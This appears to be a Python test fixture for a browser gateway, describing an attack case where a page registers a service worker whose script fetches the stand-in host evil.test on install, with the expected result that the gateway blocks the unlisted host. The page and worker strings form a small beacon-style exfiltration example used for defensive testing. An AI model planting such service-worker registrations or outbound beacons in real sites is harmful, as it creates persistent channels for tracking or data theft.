"""A page installs a service worker.

A script that the browser keeps, and that sees and makes requests when the page is closed. It calls the
attacker's site as soon as it is installed.

Not covered: a service worker of a permitted site that calls permitted sites.
"""

ATTACK = {
    "title": "Service worker that calls an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["W3C Service Workers", "ATT&CK T1176"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/worker*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<h1>Offline "
    "mode</h1><script>navigator.serviceWorker.register('/attack/worker.js').then(() => "
    "document.title = 'installed')</script>",
    "pages": {
        "/attack/worker.js": "fetch('http://evil.test/worker?started', {mode: 'no-cors'}).catch(() => 0)"
    },
}
